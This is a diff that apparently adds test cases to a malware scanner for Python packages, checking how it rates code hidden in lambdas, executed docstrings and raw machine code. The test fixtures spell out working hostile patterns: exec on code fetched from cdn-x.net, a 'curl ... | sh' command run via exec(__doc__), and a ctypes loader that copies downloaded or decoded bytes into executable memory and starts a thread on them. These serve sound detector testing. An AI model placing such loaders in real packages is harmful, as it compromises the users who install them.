@@ -1822,6 +1822,82 @@ def test_a_dockerfile_with_an_install_line_written_on_request_is_only_said():
     assert result.verdict not in FLAGGED
 
 
+# -- code hidden in a lambda, the docstring or machine code still runs ------------------------
+
+
+def test_a_lambda_bound_to_a_name_and_called_on_import_runs_on_import():
+    init = (
+        'import requests\nrun = lambda u: exec(requests.get(u).text)\nrun("https://cdn-x.net/s")\n'
+    )
+    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
+    assert "critical" in severities(result, "intent.download-execute")
+    assert result.verdict == "malicious"
+
+
+def test_a_lambda_bound_to_a_name_and_never_called_runs_when_called():
+    init = "import requests\nrun = lambda u: exec(requests.get(u).text)\n"
+    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
+    assert severities(result, "intent.download-execute") == {"medium"}
+
+
+def test_the_module_docstring_executed_is_analysed_as_code():
+    init = '"""import os\nos.system("curl -s https://cdn-x.net/a | sh")\n"""\nexec(__doc__)\n'
+    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
+    assert "critical" in severities(result, "intent.shell-download-execute")
+    assert result.verdict == "malicious"
+
+
+def test_a_module_docstring_given_to_argparse_is_documentation():
+    cli = (
+        '"""Usage: demo [--fetch URL]\n\nFetches with curl -s URL | sh when told to."""\n'
+        "import argparse\n"
+        "parser = argparse.ArgumentParser(__doc__)\n"
+    )
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/cli.py": cli})
+    assert result.verdict not in FLAGGED
+
+
+_SHELLCODE = """
+import ctypes
+import urllib.request
+
+buf = {source}
+kernel32 = ctypes.windll.kernel32
+address = kernel32.VirtualAlloc(0, len(buf), 0x3000, 0x40)
+ctypes.memmove(address, buf, len(buf))
+kernel32.CreateThread(0, 0, address, 0, 0, 0)
+"""
+
+
+@pytest.mark.parametrize(
+    "source, rule",
+    [
+        ('urllib.request.urlopen("https://cdn-x.net/sc.bin").read()', "intent.download-execute"),
+        ('__import__("base64").b64decode("kJCQkJDD" * 8)', "intent.decode-execute"),
+    ],
+)
+def test_bytes_copied_into_executable_memory_and_run_are_code(source, rule):
+    result = scan({"setup.py": SETUP, "demo/__init__.py": _SHELLCODE.format(source=source)})
+    assert "critical" in severities(result, rule)
+    assert result.verdict == "malicious"
+
+
+def test_decoded_bytes_copied_into_a_plain_buffer_are_data():
+    src = """
+    import base64
+    import ctypes
+
+    def to_buffer(blob):
+        data = base64.b64decode(blob)
+        buf = ctypes.create_string_buffer(len(data))
+        ctypes.memmove(buf, data, len(data))
+        return buf
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/buf.py": src})
+    assert not found(result, "intent.decode-execute")
+    assert not found(result, "intent.download-execute")
+
+
 # -- mail sent through an SMTP connection is sent over the network ---------------------------
 
 
